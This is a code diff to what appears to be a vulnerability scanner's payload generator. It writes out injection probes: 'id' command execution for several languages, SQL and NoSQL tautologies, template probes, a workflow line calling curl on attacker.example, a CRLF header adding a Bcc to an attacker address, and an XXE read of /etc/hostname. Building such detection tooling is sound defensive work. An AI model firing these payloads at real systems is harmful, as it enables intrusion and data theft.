@@ -4,6 +4,14 @@
  */
 import type { Candidate } from '../results/candidate.ts';
 import {
+  commands,
+  embedded,
+  inDialect,
+  isMail,
+  partsOfStatements,
+  templateDialects,
+} from './payload-dialects.ts';
+import {
   htmlContext,
   openQuote,
   type StringContext,
@@ -39,16 +47,6 @@ const quoteNames: Readonly<Record<string, string>> = {
 function quoteName(quote: string): string {
   return quoteNames[quote] ?? 'quotes';
 }
-
-/** Calls that take a part of a statement, by the ends of their names. */
-const partsOfStatements: readonly (readonly [api: RegExp, value: string, where: string])[] = [
-  [
-    /(?:order|group|pluck|column)\w*$|\.Arel\.sql$|^Arel\.sql$/i,
-    '(CASE WHEN (1=1) THEN 1 ELSE 2 END)',
-    'as an expression of the statement',
-  ],
-  [/(?:where|having|exists\?|find_by|destroy_by|extra)\w*$/i, '1=1', 'as a condition of the statement'],
-];
 
 const sql: Fitting = (context, { sinkApi }) => {
   const before = context?.before ?? '';
@@ -176,31 +174,15 @@ const markup: Fitting = (context, { sinkApi }) => {
   }
 };
 
-/** How a command is run in the language of a file, and how texts are joined there. */
-const commands: readonly (readonly [file: RegExp, expression: string, join: string])[] = [
-  [/\.pyw?$/, `__import__('os').popen('id').read()`, '+'],
-  [/\.(?:php\d?|phtml|inc)$/, `shell_exec('id')`, '.'],
-  [/\.(?:rb|erb|haml|slim|rake)$/, '`id`', '+'],
-  [/\.(?:java|jsp|kt|groovy)$/, 'T(java.lang.Runtime).getRuntime().exec("id")', '+'],
-  [/\.(?:cs|cshtml|aspx)$/, 'System.Diagnostics.Process.Start("id")', '+'],
-  // What Go programs evaluate reaches no more than it is given.
-  [/\.go$/, '7*7', '+'],
-];
-
-/** Expression languages of Java name types in ways of their own: Spring's as it is written above, OGNL's `@type@`. */
-function inDialect(written: string, sinkApi: string): string {
-  if (/ognl|xwork/i.test(sinkApi)) return written.replace(/T\(([\w.]+)\)\./, '@$1@');
-  if (/spel|springframework/i.test(sinkApi)) return written;
-  return /\blua\b|LState/.test(sinkApi) ? 'os.execute("id")' : written.replace(/T\(([\w.]+)\)/, '$1');
-}
-
 const code: Fitting = (context, { source, file, sinkApi }) => {
   const isBrowser = /^dom-/.test(source?.kind ?? '');
-  const [, written, join] = commands.find(([pattern]) => pattern.test(file)) ?? [
-    null,
-    isBrowser ? script : `require('node:child_process').execSync('id')`,
-    '+',
-  ];
+  const inside = embedded.find(([pattern]) => pattern.test(sinkApi));
+  const [, written, join] = inside ??
+    commands.find(([pattern]) => pattern.test(file)) ?? [
+      null,
+      isBrowser ? script : `require('node:child_process').execSync('id')`,
+      '+',
+    ];
   const expression = inDialect(written, sinkApi);
   const quote = openQuote(context?.before ?? '', `'"\``);
   if (quote === '`') return supports(`\${${expression}}`, 'inside a template string of the code');
@@ -208,16 +190,6 @@ const code: Fitting = (context, { source, file, sinkApi }) => {
     ? supports(`${quote} ${join} ${expression} ${join} ${quote}`, `inside ${quoteName(quote)} of the code`)
     : supports(expression, 'as code');
 };
-
-const templateDialects: [RegExp, string][] = [
-  [/ejs|lodash|underscore|eta/i, '<%= 7*7 %>'],
-  [/pug|jade/i, '#{7*7}'],
-  [/freemarker/i, `\${7*7}`],
-  [/velocity/i, '#set($x=7*7)$x'],
-  [/thymeleaf/i, `[[\${7*7}]]`],
-  [/groovy|ConstraintValidatorContext/i, `\${7*7}`],
-  [/text\/template|html\/template/, '{{printf "%d" 49}}'],
-];
 
 const template: Fitting = (_context, candidate) =>
   supports(
@@ -253,6 +225,26 @@ const workflow: Fitting = (context, candidate) => {
     : supports(`${end}; curl https://attacker.example/ #`, inside);
 };
 
+/** Queries that are written as text: JavaScript of MongoDB, JSON, and languages that read like SQL. */
+const nosql: Fitting = (context, { ruleId, sinkApi }) => {
+  const before = context?.before ?? '';
+  const quote = openQuote(before, `'"`);
+  const isCode = ruleId === 'code/mongo-code-injection';
+  if (!quote && isCode) return supports('1 == 1', 'as code of the query');
+  const operator = supports('{"$ne":null}', 'as an operator of the query');
+  if (!quote) return { ...operator, isJson: true, querySuffix: '[$ne]' };
+  const where = `inside ${quoteName(quote)} of the ${isCode ? 'code' : 'query'}`;
+  if (/^\s*\{/.test(before)) return supports(`${quote}, "$or": [{}], "x": ${quote}`, where);
+  const isScript = isCode || /\$where|Mongo/.test(sinkApi) || /^\s*(?:this\.|return\b)/.test(before);
+  const [or, equal] = isScript ? ['||', '=='] : ['OR', '='];
+  return supports(`${quote} ${or} ${quote}1${quote}${equal}${quote}1`, where);
+};
+
+const header: Fitting = (_context, { sinkApi }) =>
+  isMail.test(sinkApi)
+    ? supports('x\r\nBcc: someone@attacker.example', 'inside a header of the mail')
+    : supports('x\r\nSet-Cookie: injected=1', 'inside a header');
+
 /** The checker of regular expressions has made the text already. */
 const regex: Fitting = (context, { details }) => {
   const attack = { value: '', expression: details.attack ?? "''" };
@@ -283,13 +275,10 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'dom-xss': markup,
   'template-injection': template,
   'xpath-injection': xpath,
-  'nosql-injection': fixed('{"$ne":null}', 'as an operator of the query', {
-    isJson: true,
-    querySuffix: '[$ne]',
-  }),
+  'nosql-injection': nosql,
   'ldap-injection': fixed('*)(objectClass=*', 'inside the filter'),
   'log-injection': fixed('ok\nERROR forged entry', 'inside a log line'),
-  'header-injection': fixed('x\r\nSet-Cookie: injected=1', 'inside a header'),
+  'header-injection': header,
   xxe: fixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'as the document'),
   'prototype-pollution': fixed('{"__proto__":{"polluted":true}}', 'as the object that is merged', {
     isJson: true,
